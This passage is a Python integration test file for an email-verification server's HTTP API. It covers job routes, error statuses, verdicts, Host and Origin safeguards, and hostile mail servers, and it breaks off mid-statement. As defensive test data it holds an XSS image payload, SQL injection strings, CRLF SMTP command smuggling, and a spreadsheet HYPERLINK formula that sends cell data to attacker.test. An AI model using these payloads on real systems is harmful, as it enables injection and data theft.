"""verimex-server through a real HTTP client and Debian's headless chromium (chromedriver, python3-selenium), on
real SQLite and PostgreSQL stores in the private network, with the scripted mail servers of server.zones."""

import csv
import io
import json
import os
import pwd
import re
import signal
import socket
import subprocess
import tempfile
import time
import urllib.parse

from selenium import webdriver
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import Select, WebDriverWait

from serverlib import CANNOT_VRFY, REJECT, SERVER, ServerTest, check_path, smtp_peer, wait_for
from golden_texts import text as golden  # on the path serverlib set

VERIFIED = golden("verified")
TOKEN = "s3cret-token"
FAST = ["-f", "tester.server.test", "--mx-interval", "0", "--per-mx", "8"]
TIMEOUT_ERROR = "timeout: expected a whole number of seconds from 0 to 32767"
METHOD_ERROR = "method: expected vrfy, rcpt or auto"
TLS_ERROR = "tls: expected try, require or off"
CATCH_ALL_ERROR = "catch_all: expected true or false"
SENDER_ERROR = "mail_from: expected an address, or nothing for the null sender"
NAME_ERROR = 'name: 1 to 200 bytes, without control characters or "/"'
ADDRESSES_ERROR = "addresses: expected an array of strings"
OUTCOMES = [("alice@yes.server.test", VERIFIED), ("bob@no.server.test", REJECT + "\r\n"),
            ("carol@down.server.test", golden("could_not_connect")),
            ("dave@nomx.server.test", golden("no_mail_server")),
            # Input the component refuses reaches it unchanged and is answered with its text.
            ("a\r\nquit@yes.server.test", golden("invalid_email"))]
HOSTILE = '<img src=x onerror="document.title=\'pwned\'">@yes.server.test'
ADDRESSES = ["alice@yes.server.test", "bob@no.server.test", "carol@down.server.test", "dave@nomx.server.test",
             "erin@yes.server.test", HOSTILE]
# The members of a report of methods rcpt and auto; method vrfy answers with the first five alone.
MEMBERS = ["address", "returnvar", "verified", "transcript", "error", "method", "verdict", "reason", "mx", "code",
           "enhanced", "catch_all", "tls", "tls_version", "role_account", "disposable"]
UNKNOWN_USER = "550 5.1.1 <%s>: Recipient address rejected: User unknown in local recipient table\r\n"
COUNTS = {"verified": 3, "rejected": 1, "could_not_connect": 1, "no_mail_server": 1, "timed_out": 0, "other_errors": 0}



def job_path(name, tail=""):
    return "/v1/jobs/" + urllib.parse.quote(name, safe="") + tail


class Api(ServerTest):
    # No --store: the default file in the server's working folder.
    args, headers = FAST + ["-t", "10", "-j", "4", "--token", TOKEN], {"Authorization": "Bearer " + TOKEN}

    def job(self, name):
        return self.server.json("GET", job_path(name))[2]

    def test_check_outcomes_many_at_once(self):
        cases = [  # address, parameters, returnvar, a line of the transcript (None: no transcript)
            ("x@mute.server.test", {"timeout": "1"}, golden("timed_out", 1), ""),
            ("alice@yes.server.test", {}, VERIFIED, golden("helo_line", "tester.server.test")),
            ("alice@yes.server.test", {"from": "other.example"}, VERIFIED, golden("helo_line", "other.example")),
            ("a@yes.server.test", {"timeout": "32767"}, VERIFIED, golden("vrfy_line", "a@yes.server.test")),
            # Reply bytes that are not UTF-8 become replacement characters.
            ("x@bytes.server.test", {}, "553 caf\ufffd \ufffd\ufffd ok\r\n", ""),
            ("a@-debug", {}, golden("invalid_email"), None),
        ] + [(a, {}, r, "" if r != golden("invalid_email") else None) for a, r in OUTCOMES] + [
            ("u%d@%s.server.test" % (i, peer), {"timeout": "60"}, r, "") for i in range(25)
            for peer, r in [("yes", VERIFIED), ("no", REJECT + "\r\n")]]
        # All sent before any reply is read, more than the check threads (32), from this one thread: no
        # client threads to starve the scripted mail servers (Python threads too) on a busy machine.
        start = time.monotonic()
        # The component's own check, and its five members.
        sent = [self.server.send("GET", check_path(address, method="vrfy", **params), timeout=180)
                for address, params, *_ in cases]
        for (address, params, returnvar, line), conn in zip(cases, sent):
            with self.subTest(address=address, params=params):
                conn.sock.settimeout(max(0.1, start + 180 - time.monotonic()))
                status, head, got = self.server.answer(conn, True)
                transcript = got.pop("transcript")
                self.assertEqual((status, head["Content-Type"].split(";")[0], got), (200, "application/json", {
                    "address": address, "returnvar": returnvar, "verified": returnvar == VERIFIED, "error": None}))
                self.assertIn(line, transcript) if line is not None else self.assertEqual(transcript, "")
                self.assertLess(time.monotonic() - start, 8 if params.get("timeout") == "1" else 180)

    def test_error_statuses_and_bodies(self):
        self.server.json("POST", "/v1/jobs", {"addresses": ["alice@yes.server.test"], "name": "there"})
        one, js, text = {"addresses": ["a@b"]}, {"Content-Type": "application/json"}, {"Content-Type": "text/plain"}
        allow = {"/v1/check": "GET, HEAD", "/v1/preflight": "GET, HEAD", "/v1/jobs": "GET, HEAD, POST", "/v1/jobs/x": "GET, HEAD, DELETE"}
        cases = [  # status, error (a trailing "*": its start), method, path, body (a dict as JSON), header fields
            (400, "missing parameter: email", "GET", "/v1/check", None, {}),
            (400, "empty parameter: email", "GET", "/v1/check?email=", None, {}),
            (400, "addresses: none given", "POST", "/v1/jobs", b"\n# nothing\n", text),
            (400, "line 3: longer than 256 octets", "POST", "/v1/jobs", b"a@b\n\n" + b"x" * 250 + b"@b.test\n", text),
            (400, "addresses[1]: longer than 256 octets", "POST", "/v1/jobs",
             {"addresses": ["a@b", "x" * 250 + "@b.test"]}, js),
            (413, "request body too large", "POST", "/v1/jobs", b"a@yes.server.test\n" * 600000, text),
            (415, "Content-Type: expected application/json or text/plain", "POST", "/v1/jobs", b"a@b\n",
             {"Content-Type": "application/x-www-form-urlencoded"}),
        ] + [(400, TIMEOUT_ERROR, "GET", check_path("a@b", timeout=t), None, {}) for t in ["-1", "32768", "1.5", ""]
        ] + [(400, error, "GET", check_path("a@b", **{key: value}), None, {}) for key, value, error in [
            ("method", "smtp", METHOD_ERROR), ("method", "", METHOD_ERROR), ("method", "VRFY", METHOD_ERROR),
            ("tls", "yes", TLS_ERROR), ("tls", "", TLS_ERROR),
            ("mail_from", "no-at-sign", SENDER_ERROR), ("mail_from", "a b@c", SENDER_ERROR),
            ("mail_from", "a@b>\r\nRCPT TO:<x@y", SENDER_ERROR), ("mail_from", "@b", SENDER_ERROR),
            ("catch_all", "no", CATCH_ALL_ERROR), ("catch_all", "", CATCH_ALL_ERROR)]
        ] + [(400, error, "POST", "/v1/jobs?" + query, b"a@b\n", text) for query, error in [
            ("method=all", METHOD_ERROR), ("tls=never", TLS_ERROR), ("mail_from=x", SENDER_ERROR)]
        ] + [
            (400, error, "POST", "/v1/jobs", body, js) for body, error in [
                (b"not json", "bad JSON: *"), (b'{"addresses": ["a@b\xff"]}', "bad JSON: *"),
                (b"[]", "expected a JSON object"), ({"addresses": []}, "addresses: none given"),
                ({"addresses": [1]}, ADDRESSES_ERROR), ({"addresses": [""]}, ADDRESSES_ERROR), ({}, ADDRESSES_ERROR),
                (dict(one, name=5), "name: expected a string"), (dict(one, **{"from": []}), "from: expected a string"),
                (dict(one, method=1), "method: expected a string"), (dict(one, method="x"), METHOD_ERROR),
                (dict(one, tls=True), "tls: expected a string"), (dict(one, mail_from="a@"), SENDER_ERROR),
                (dict(one, catch_all="false"), CATCH_ALL_ERROR),
                (dict(one, timeout=601), "timeout: longer than the lease*"), (dict(one, timeout="5"), TIMEOUT_ERROR),
                (dict(one, timeout=-1), TIMEOUT_ERROR), (dict(one, name="a/b"), NAME_ERROR),
                (dict(one, name="a\nb"), NAME_ERROR), (dict(one, name="n" * 201), NAME_ERROR)]] + [
            (400, error, "GET", job_path("there", "/results?" + query), None, {}) for query, error in [
                ("format=xml", "format: expected jsonl or csv"), ("limit=1e3", "limit: expected a whole number from 0"),
                ("offset=-1", "offset: expected a whole number from 0")]] + [
            (404, "no such job", method, "/v1/jobs/missing" + tail, None, {})
            for method, tail in [("GET", ""), ("GET", "/results"), ("DELETE", "")]] + [
            (404, "no such path: " + path, "GET", path, None, {}) for path in ["/nope", "/static/x.jsx", "/v1/jobs/a/b"]
        ] + [(405, "method %s not allowed on %s" % (method, path), method, path, None, {})
             for method, path in [("POST", "/v1/check"), ("PUT", "/v1/jobs"), ("PATCH", "/v1/jobs/x"),
                                 ("POST", "/v1/preflight")]] + [
            (401, "missing or wrong bearer token", "GET", path, None, {"Authorization": token})
            for token in [None, "Bearer ", "Bearer " + TOKEN[:-1], "Bearer " + TOKEN + "x", "Bearer  " + TOKEN,
                          "Basic " + TOKEN] for path in [check_path("a@yes.server.test"), "/metrics", "/v1/jobs",
                                                                    "/v1/preflight"]]
        for code, error, method, path, body, headers in cases:
            with self.subTest(method=method, path=path[:60], body=str(body)[:50], headers=headers):
                status, head, reply = self.server.json(method, path, body, headers)
                got = reply.get("error", "")[:len(error) - 1] + "*" if error.endswith("*") else reply.get("error")
                self.assertEqual((status, list(reply), got), (code, ["error"], error))
                self.assertEqual(head.get("Allow"), allow.get(path) if code == 405 else None)
                self.assertEqual(head.get("WWW-Authenticate"), 'Bearer realm="verimex"' if code == 401 else None)
                if code == 401:  # a success in between keeps the brake on failed tokens off
                    self.assertEqual(self.server.request("GET", "/v1/jobs")[0], 200)
        # The scheme's name in any case.
        for scheme in ["bearer", "BEARER", "bEaReR"]:
            self.assertEqual(self.server.request("GET", "/v1/jobs", headers={"Authorization": scheme + " " + TOKEN})[0],
                             200, scheme)

    def test_job_routes(self):
        self.assertEqual(self.server.json("POST", "/v1/jobs?name=alpha&timeout=1&from=other.example&method=vrfy",
                                          b"# a list\n\n  alice@yes.server.test  \r\nx@mute.server.test\n",
                                          {"Content-Type": "text/plain; charset=utf-8"})[::2],
                         (201, {"job": "alpha", "added": 2, "duplicates": 0}))
        # Added to the same job as JSON: repeats are counted, not added; its settings stay.
        status, head, reply = self.server.json("POST", "/v1/jobs", {"name": "alpha", "addresses": [a for a, _ in
                                                                                                   OUTCOMES]})
        self.assertEqual((status, head["Location"], reply), (201, "/v1/jobs/alpha",
                                                              {"job": "alpha", "added": 4, "duplicates": 1}))
        self.assertTrue(wait_for(lambda: self.job("alpha")["done"] == 6, timeout=60))
        self.assertEqual(self.job("alpha"), {"job": "alpha", "total": 6, "done": 6, "due": 0, "running": 0,
                                             "deferred": 0, "results": dict.fromkeys(COUNTS, 1),
                                             "verdicts": {"deliverable": 1, "undeliverable": 3, "risky": 0,
                                                          "unknown": 2},
                                             "reasons": {"deliverable": {"accepted": 1},
                                                         "undeliverable": {"invalid_syntax": 1, "no_mail_server": 1,
                                                                           "no_such_mailbox": 1},
                                                         "unknown": {"could_not_connect": 1, "timeout": 1}}})
        self.assertTrue(os.path.exists(os.path.join(self.server.cwd, "verimex-jobs.sqlite")))
        status, head, body = self.server.request("GET", job_path("alpha", "/results?format=jsonl"))
        self.assertEqual((status, head["Content-Type"].split(";")[0]), (200, "application/x-ndjson"))
        rows = [json.loads(line) for line in body.decode().splitlines()]
        want = OUTCOMES[:1] + [("x@mute.server.test", golden("timed_out", 1))] + OUTCOMES[1:]
        self.assertEqual([(r["address"], r["returnvar"], r["state"], r["attempts"]) for r in rows],
                         [(a, v, "done", 1) for a, v in want])
        self.assertEqual(sorted(rows[0]), sorted(MEMBERS + ["state", "attempts", "checked_at"]))
        self.assertIn(golden("helo_line", "other.example"), rows[0]["transcript"])
        status, head, body = self.server.request("GET", job_path("alpha", "/results?format=csv"))
        self.assertEqual((status, head["Content-Type"].split(";")[0], head["Content-Disposition"]),
                         (200, "text/csv", 'attachment; filename="alpha.csv"'))
        self.assertEqual([row[:3] for row in csv.reader(io.StringIO(body.decode(), newline=""))],
                         [["address", "returnvar", "verified"]] + [[a, v, str(v == VERIFIED).lower()] for a, v in want])
        for offset, limit, page in [(1, 2, rows[1:3]), (4, 10, rows[4:]), (9, 1, [])]:
            self.assertEqual(self.server.rows(job_path("alpha", "/results?offset=%d&limit=%d" % (offset, limit))),
                             page, (offset, limit))

        # A job without a name gets one; a name reaches its own job only.
        name = self.server.json("POST", "/v1/jobs", {"addresses": ["carol@down.server.test"]})[2]["job"]
        self.assertRegex(name, r"^job-\d{8}-\d{6}-[0-9a-f]{6}$")
        self.assertLessEqual({"alpha", name}, set(self.server.json("GET", "/v1/jobs")[2]["jobs"]))
        self.server.json("POST", "/v1/jobs", {"addresses": ["bob@no.server.test"], "name": "al%"})
        for name in ["alph%", "alph_", "al_ha", "ALPHA", "alpha ", "alpha\x00", "..", "*", "alpha' OR '1'='1",
                     "alpha;DROP TABLE jobs", "alpha/../alpha", "../alpha", "al%25", "%", "\u0430lpha"]:
            for method, path in [("GET", job_path(name)), ("GET", job_path(name, "/results")),
                                 ("DELETE", job_path(name))]:
                status, _, body = self.server.request(method, path)
                self.assertEqual((status, b"alice" in body), (404, False), (method, path, body))
        self.assertEqual(self.job("alpha")["total"], 6)
        self.assertEqual([r["address"] for r in self.server.rows(job_path("al%", "/results"))], ["bob@no.server.test"])
        # The list of jobs is paged, in the order they were made; a full page says where the next begins.
        everything = self.server.json("GET", "/v1/jobs")[2]["jobs"]
        n = len(everything)
        self.assertEqual((everything[-1], n >= 3), ("al%", True))
        for query, page in [("limit=2", {"jobs": everything[:2], "next_offset": 2}),
                            ("offset=%d&limit=2" % (n - 1), {"jobs": ["al%"]}),
                            ("offset=1&limit=1", {"jobs": everything[1:2], "next_offset": 2}),
                            ("offset=%d" % (n + 5), {"jobs": []})]:
            self.assertEqual(self.server.json("GET", "/v1/jobs?" + query)[::2], (200, page), query)
        for query in ["limit=0", "limit=1001", "offset=x"]:
            self.assertEqual(self.server.json("GET", "/v1/jobs?" + query)[0], 400, query)

        # Deleted while its check runs: the check's end does not bring it back, and the name starts afresh.
        self.server.json("POST", "/v1/jobs", {"addresses": ["x@mute.server.test"], "name": "doomed", "timeout": 3})
        self.assertTrue(wait_for(lambda: self.job("doomed")["running"] == 1))
        self.assertEqual(self.server.json("DELETE", "/v1/jobs/doomed")[::2], (200, {"job": "doomed", "removed": True}))
        time.sleep(4)
        self.assertEqual(self.server.json("GET", "/v1/jobs/doomed")[0], 404)
        self.assertEqual(self.server.json("POST", "/v1/jobs", {"addresses": ["a@b"], "name": "doomed"})[2]["added"], 1)

    def test_endless_header_fields_are_cut_off(self):
        sent = 0
        with socket.create_connection(("127.0.0.1", self.server.port), timeout=15) as s:
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            with self.assertRaises(OSError):
                for i in range(100000):
                    sent += s.send(b"X-Filler-%d: %s\r\n" % (i, b"v" * 100))
        # Cut off after the head's bound (256 KiB) and the sockets' buffers, far from 10 MB; under it, served.
        self.assertLess(sent, 4 * 1024 * 1024)
        headers = {"X-Filler-%d" % i: "v" * 100 for i in range(500)}
        self.assertEqual(self.server.request("GET", "/healthz", headers=headers)[0], 200)


class Verdicts(ServerTest):
    """Methods rcpt and auto, their settings, and what they add to the reply, the metrics and the preflight."""

    args = FAST + ["-t", "10"]

    def test_checks_by_method_sender_and_tls(self):
        rcpt = lambda who: dict(method="rcpt", mx="mx.%s.server.test" % who.partition("@")[2].split(".")[0])  # noqa
        cases = [  # address, parameters, verdict, reason, more members that must match, a line of the transcript
            ("alice@rcpt.server.test", {}, "deliverable", "accepted",
             dict(rcpt("alice@rcpt"), returnvar="000", verified=True, code=250, enhanced="2.1.5", catch_all=False,
                  tls=False), "MAIL FROM:<>\r\n"),
            ("nosuchuser7@rcpt.server.test", {"method": "auto"}, "undeliverable", "no_such_mailbox",
             dict(rcpt("x@rcpt"), returnvar=UNKNOWN_USER % "nosuchuser7@rcpt.server.test", verified=False, code=550,
                  enhanced="5.1.1"), "vrfy nosuchuser7@rcpt.server.test\r\n"),
            ("anyone@all.server.test", {}, "risky", "accept_all",
             dict(rcpt("x@all"), code=250, catch_all=True, verified=False), "RCPT TO:<anyone@all.server.test>\r\n"),
            # VRFY decides when it says something: auto stops there; rcpt never asks it.
            ("alice@yes.server.test", {}, "deliverable", "accepted", dict(method="vrfy", returnvar=VERIFIED), ""),
            ("alice@yes.server.test", {"method": "rcpt"}, "undeliverable", "no_such_mailbox",
             dict(method="rcpt", code=550), "RCPT TO:<alice@yes.server.test>\r\n"),
            ("alice@rcpt.server.test", {"mail_from": "probe@sender.server.test", "from": "helo.server.test"},
             "deliverable", "accepted", {}, "MAIL FROM:<probe@sender.server.test>\r\n"),
            ("alice@rcpt.server.test", {"from": "helo.server.test"}, "deliverable", "accepted", {},
             "EHLO helo.server.test\r\n"),
            # The scripted server offers no STARTTLS.
            ("alice@rcpt.server.test", {"tls": "require"}, "unknown", "tls_required", dict(verified=False), ""),
            ("alice@rcpt.server.test", {"tls": "off"}, "deliverable", "accepted", dict(tls=False), ""),
            ("postmaster@rcpt.server.test", {}, "undeliverable", "no_such_mailbox", dict(role_account=True), ""),
            ("carol@down.server.test", {}, "unknown", "could_not_connect", dict(method=None, mx=None), ""),
            # Not probed for a catch-all: one RCPT, and nothing said of the domain.
            ("bob@all.server.test", {"catch_all": "false"}, "deliverable", "accepted", dict(catch_all=None),
             "RCPT TO:<bob@all.server.test>\r\n250 2.1.5 Ok\r\nRSET"),
            ("dave@nosuch.server.test", {}, "undeliverable", "no_mail_server", dict(method=None), ""),
            ("not an address", {}, "undeliverable", "invalid_syntax", dict(method=None, transcript=""), None),
        ]
        sent = [self.server.send("GET", check_path(a, **p), timeout=120) for a, p, *_ in cases]
        for (address, params, verdict, reason, more, line), conn in zip(cases, sent):
            with self.subTest(address=address, params=params):
                status, _, got = self.server.answer(conn, True)
                self.assertEqual((status, list(got)), (200, MEMBERS))
                self.assertEqual({k: got[k] for k in ["address", "verdict", "reason", *more]},
                                 dict(more, address=address, verdict=verdict, reason=reason))
                if line:
                    self.assertIn(line, got["transcript"])
        # Method vrfy is the component's check, with its members alone.
        status, _, got = self.server.json("GET", check_path("alice@rcpt.server.test", method="vrfy"))
        self.assertEqual((status, list(got), got["returnvar"]), (200, MEMBERS[:5], CANNOT_VRFY + "\r\n"))

        # Counted by verdict (every verdict has its line) and by the reasons seen.
        metrics = self.server.request("GET", "/metrics")[2].decode()
        count = lambda name, **labels: int(re.search(r"^%s\{%s\} (\d+)$" % (name, ",".join(  # noqa: E731
            '%s="%s"' % kv for kv in labels.items())), metrics, re.M).group(1))
        verdicts = {v: count("verimex_check_verdicts_total", source="single", verdict=v)
                    for v in ["deliverable", "undeliverable", "risky", "unknown"]}
        # The vrfy check above is "unknown"/"cannot_verify".
        self.assertEqual(verdicts, {"deliverable": 6, "undeliverable": 5, "risky": 1, "unknown": 3})
        self.assertEqual([count("verimex_check_reasons_total", source="single", verdict=v, reason=r) for v, r in [
            ("undeliverable", "no_such_mailbox"), ("risky", "accept_all"), ("unknown", "tls_required"),
            ("unknown", "cannot_verify")]], [3, 1, 1, 1])
        self.assertEqual(count("verimex_check_verdicts_total", source="job", verdict="risky"), 0)
        self.assertNotIn('reason="timeout"', metrics)

    def test_job_checks_with_the_settings_of_its_post(self):
        addresses = ["alice@rcpt.server.test", "nosuchuser7@rcpt.server.test", "alice@yes.server.test"]
        body = {"addresses": addresses, "name": "rcpt-job", "method": "rcpt", "mail_from": "jobs@sender.server.test",
                "tls": "off", "from": "jobs.server.test"}
        self.assertEqual(self.server.json("POST", "/v1/jobs", body)[0], 201)
        self.assertTrue(wait_for(lambda: self.server.json("GET", "/v1/jobs/rcpt-job")[2]["done"] == 3, timeout=60))
        rows = self.server.rows("/v1/jobs/rcpt-job/results")
        self.assertEqual([(r["address"], r["returnvar"]) for r in rows], [
            (addresses[0], "000"), (addresses[1], UNKNOWN_USER % addresses[1]),
            (addresses[2], UNKNOWN_USER % addresses[2])])
        for r in rows:
            for line in ["EHLO jobs.server.test\r\n", "MAIL FROM:<jobs@sender.server.test>\r\n"]:
                self.assertIn(line, r["transcript"])
            self.assertNotIn("vrfy", r["transcript"].lower().replace("250-vrfy", ""))
        # The addresses of one domain share sessions: fewer connections
        # than addresses, each with its own verdict and transcript.
        many = ["alice@rcpt.server.test"] + ["nosuchuser%d@rcpt.server.test" % i for i in range(11)]
        before = self.rcpt_peer.connections
        self.server.json("POST", "/v1/jobs", {"addresses": many, "name": "sessions-job", "method": "rcpt"})
        self.assertTrue(wait_for(lambda: self.server.json("GET", "/v1/jobs/sessions-job")[2]["done"] == 12,
                                 timeout=60))
        rows = self.server.rows("/v1/jobs/sessions-job/results")
        self.assertEqual([(r["address"], r["returnvar"]) for r in rows],
                         [(many[0], "000")] + [(a, UNKNOWN_USER % a) for a in many[1:]])
        for r in rows:
            self.assertEqual(r["transcript"].count("RCPT TO:<" + r["address"] + ">"), 1, r["transcript"])
            self.assertNotIn("RCPT TO:<nosuchuser", r["transcript"].replace("RCPT TO:<" + r["address"], ""))
        self.assertLess(self.rcpt_peer.connections - before, len(many))
        # A job posted without settings is checked with auto: VRFY decides at yes.server.test.
        self.server.json("POST", "/v1/jobs", {"addresses": addresses[2:], "name": "auto-job"})
        self.assertTrue(wait_for(lambda: self.server.json("GET", "/v1/jobs/auto-job")[2]["done"] == 1, timeout=60))
        self.assertEqual(self.server.rows("/v1/jobs/auto-job/results")[0]["returnvar"], VERIFIED)

    def test_preflight(self):
        cases = [  # query, status of the port-25 finding, blocked
            ({"test_host": "mx.rcpt.server.test", "blocklists": "", "public_address": "127.0.0.97"}, "ok", None),
            ({"test_host": "mx.down.server.test", "blocklists": "", "timeout": "2"}, "blocking", True),
        ]
        for query, port25, blocked in cases:
            with self.subTest(query=query):
                status, _, got = self.server.json("GET", "/v1/preflight?" + urllib.parse.urlencode(query))
                self.assertEqual((status, list(got)), (200, ["blocked", "cancelled", "error", "address",
                                                             "address_source", "address_guess", "findings"]))
                checks = {f["check"]: f for f in got["findings"]}
                self.assertEqual(list(checks), ["port25", "reverse_dns", "helo", "spf"])
                self.assertEqual(checks["port25"]["status"], port25)
                self.assertIn(query["test_host"], checks["port25"]["subject"])
                if blocked is not None:
                    self.assertEqual(got["blocked"], blocked)
                self.assertEqual(got["cancelled"], False)
        for query, error in [({"public_address": "not-an-address"}, "*"), ({"test_host": ""}, "test_host: *"),
                             ({"mail_from": "x"}, SENDER_ERROR)]:
            status, _, got = self.server.json("GET", "/v1/preflight?" + urllib.parse.urlencode(query))
            self.assertEqual((status, list(got)), (400, ["error"]), got)
            if error != "*":
                self.assertTrue(got["error"].startswith(error.rstrip("*")), got)


class BrowserSafety(ServerTest):
    """What a page of another site can make a browser send here: refused before anything is done."""
    args = FAST + ["--allow-host", "verimex.server.test", "--allow-host", "Check.Server.Test"]

    def test_host_names_of_this_server_alone(self):
        port = self.server.port
        for host, status in [("127.0.0.1:%d" % port, 200), ("LOCALHOST:%d" % port, 200), ("[::1]:%d" % port, 200),
                             ("verimex.server.test:%d" % port, 200), ("check.server.test", 200),
                             ("attacker.test:%d" % port, 421), ("localhost.attacker.test:%d" % port, 421),
                             ("127.0.0.1.attacker.test", 421), ("[::1", 421)]:
            for path in ["/", "/v1/jobs", "/healthz", check_path("alice@yes.server.test")]:
                with self.subTest(host=host, path=path):
                    got, headers, body = self.server.request("GET", path, headers={"Host": host})
                    self.assertEqual(got, status, body[:100])
                    if status == 421:
                        self.assertEqual(json.loads(body), {"error": "Host: not a name of this server "
                                                                     "(see --allow-host)"})

    def test_pages_of_other_sites_change_and_check_nothing(self):
        own = "http://127.0.0.1:%d" % self.server.port
        forbidden = {"error": "Origin: requests that change or check anything are taken from this server's own "
                              "page only"}
        body = {"addresses": ["alice@yes.server.test"], "name": "origin"}
        for origin in ["http://attacker.test", "null", "http://127.0.0.1:1", "https://127.0.0.1:%d" % self.server.port]:
            for method, path, data in [("POST", "/v1/jobs", body), ("DELETE", job_path("origin"), None),
                                       ("GET", check_path("alice@yes.server.test"), None),
                                       ("GET", "/v1/preflight?test_host=mx.yes.server.test&blocklists=", None)]:
                with self.subTest(origin=origin, method=method, path=path):
                    self.assertEqual(self.server.json(method, path, data, {"Origin": origin})[::2], (403, forbidden))
        self.assertEqual(self.server.json("GET", job_path("origin"))[0], 404)  # nothing was made
        self.assertEqual(self.server.json("POST", "/v1/jobs", body, {"Origin": own})[0], 201)
        # Reading is the browser's to keep from other sites; scripts send no Origin at all.
        self.assertEqual(self.server.json("GET", job_path("origin"), None, {"Origin": "http://attacker.test"})[0], 200)
        self.assertEqual(self.server.json("DELETE", job_path("origin"), None, {"Origin": own})[0], 200)

    def test_a_page_without_the_token_posts_json_alone(self):
        own = "http://127.0.0.1:%d" % self.server.port
        listing = b"alice@yes.server.test\n"
        refused = {"error": "Content-Type: a page must post application/json"}
        for headers in [{"Origin": own, "Content-Type": "text/plain"},
                        {"Origin": own, "Content-Type": "application/x-www-form-urlencoded"},
                        {"Origin": own, "Content-Type": "multipart/form-data; boundary=x"}, {"Origin": own},
                        {"Sec-Fetch-Site": "same-origin", "Content-Type": "text/plain"},
                        {"Sec-Fetch-Site": "cross-site", "Content-Type": "text/plain"}]:
            with self.subTest(headers=headers):
                self.assertEqual(self.server.json("POST", "/v1/jobs?name=plain", listing, headers)[::2],
                                 (415, refused))
        self.assertEqual(self.server.json("GET", job_path("plain"))[0], 404)
        # curl, scripts and a URL typed in the address bar post text/plain lists as before.
        for headers in [{"Content-Type": "text/plain"}, {"Content-Type": "text/plain", "Sec-Fetch-Site": "none"}]:
            self.assertEqual(self.server.json("POST", "/v1/jobs?name=plain", listing, headers)[0], 201)
        self.assertEqual(self.server.json("POST", "/v1/jobs", {"addresses": ["b@yes.server.test"], "name": "plain"},
                                          {"Origin": own})[0], 201)
        # With a token a request is the user's own, whatever its type.
        server = self.start(*FAST, "--token", TOKEN)
        self.assertEqual(server.json("POST", "/v1/jobs?name=plain", listing,
                                     {"Origin": "http://127.0.0.1:%d" % server.port, "Content-Type": "text/plain",
                                      "Authorization": "Bearer " + TOKEN})[0], 201)

    def test_beyond_loopback_a_token_or_no_token_is_asked_for(self):
        run = subprocess.run([SERVER, "--listen", "0.0.0.0:0"], capture_output=True, timeout=30, cwd=self.server.cwd)
        self.assertEqual(run.returncode, 2)
        self.assertIn(b"verimex-server: listening on 0.0.0.0 without a token would let anyone who reaches it use "
                      b"this server: give --token or --token-file, or --no-token if that is meant\n", run.stderr)
        for args in [["--no-token"], ["--token", TOKEN]]:
            with self.subTest(args=args), tempfile.TemporaryDirectory() as folder:
                proc = subprocess.Popen([SERVER, "--listen", "0.0.0.0:0", *args], stdout=subprocess.PIPE,
                                        stderr=subprocess.DEVNULL, cwd=folder)
                try:
                    self.assertRegex(proc.stdout.readline(), rb"^verimex-server: listening on http://0\.0\.0\.0:\d+/$")
                finally:  # at once after the line too, SIGTERM stops it
                    proc.send_signal(signal.SIGTERM)
                    self.assertEqual(proc.wait(timeout=30), 0)
                    proc.stdout.close()


class HostileMailServers(ServerTest):
    FORMULA = '=HYPERLINK("http://attacker.test/?"&A1,"click")'

    def peer(self, **script):
        peer = smtp_peer.Peer("127.0.0.99", name="mx.hostile.server.test", **script)
        self.addCleanup(peer.stop)
        return peer

    def finished(self, server, name, addresses, method):
        body = {"addresses": addresses, "name": name, "method": method, "timeout": 5}
        self.assertEqual(server.json("POST", "/v1/jobs", body)[0], 201)
        self.assertTrue(wait_for(lambda: server.json("GET", job_path(name))[2]["done"] == len(addresses), 30))

    def test_a_reply_made_to_be_a_formula_stays_text_in_csv(self):
        self.peer(vrfy=self.FORMULA)
        server = self.start(*FAST)
        self.finished(server, "formula", ["eve@hostile.server.test", "=1+2@hostile.server.test"], "vrfy")
        rows = list(csv.DictReader(io.StringIO(server.request("GET", job_path("formula", "/results?format=csv"))[2]
                                               .decode(), newline="")))
        self.assertEqual([(r["address"], r["returnvar"]) for r in rows],
                         [("eve@hostile.server.test", "'" + self.FORMULA + "\r\n"),
                          ("'=1+2@hostile.server.test", "'" + self.FORMULA + "\r\n")])
        # The JSON lines as they came.
        self.assertEqual([(r["address"], r["returnvar"]) for r in server.rows(job_path("formula", "/results"))],
                         [("eve@hostile.server.test", self.FORMULA + "\r\n"),
                          ("=1+2@hostile.server.test", self.FORMULA + "\r\n")])

    def test_mail_exchangers_on_loopback_are_refused_unless_allowed(self):
        peer = self.peer(vrfy="250 2.0.0 someone", mailboxes=["alice"])
        server = self.start(*FAST, private_mx=False)
        address, refused = "alice@hostile.server.test", golden("could_not_connect")
        telnet = "telnet: mx.hostile.server.test\r\nERROR: could not connect to mx.hostile.server.test\r\n"
        for method in ["rcpt", "auto", "vrfy"]:
            with self.subTest(method=method):
                status, _, report = server.json("GET", check_path(address, method=method))
                self.assertEqual((status, report["returnvar"], report["verified"]), (200, refused, False))
                self.assertIn(telnet, report["transcript"])
                if method != "vrfy":  # vrfy answers with the component's members alone
                    self.assertEqual((report["verdict"], report["reason"]), ("unknown", "refused_address"))
        for method in ["vrfy", "rcpt"]:
            self.finished(server, method, [address], method)
            self.assertEqual([(r["verdict"], r["reason"], r["returnvar"]) for r in server.rows(job_path(method,
                                                                                                  "/results"))],
                             [("unknown", "refused_address", refused)])
        # Nor does a preflight try port 25 of a test host on loopback.
        query = urllib.parse.urlencode({"test_host": "mx.hostile.server.test", "blocklists": "", "timeout": "2"})
        port25 = server.json("GET", "/v1/preflight?" + query)[2]["findings"][0]
        self.assertEqual((port25["check"], port25["status"]), ("port25", "could_not_tell"))
        self.assertRegex(port25["text"], r"^the test host mx\.hostile\.server\.test is at [0-9.]+:25, a loopback, "
                                         r"private or reserved address: not tried$")
        self.assertEqual(peer.connections, 0)
        # Allowed, the same checks reach it.
        allowed = self.start(*FAST)
        for method in ["rcpt", "vrfy"]:
            self.assertEqual(allowed.json("GET", check_path(address, method=method))[2]["returnvar"], VERIFIED)
        self.assertGreaterEqual(peer.connections, 2)


class OwnServers(ServerTest):
    def test_full_queue_sigterm_and_restart(self):
        store = self.enterContext(tempfile.TemporaryDirectory(prefix="verimex-server-test.")) + "/jobs.sqlite"
        addresses = ["m%d@mute.server.test" % i for i in range(4)] + ["y%d@yes.server.test" % i for i in range(20)]
        server = self.start(*FAST, "-j", "2", "--store", store, "--check-threads", "1", "--check-queue", "1")
        self.assertEqual(server.json("POST", "/v1/jobs", dict(addresses=addresses, name="long", timeout=3,
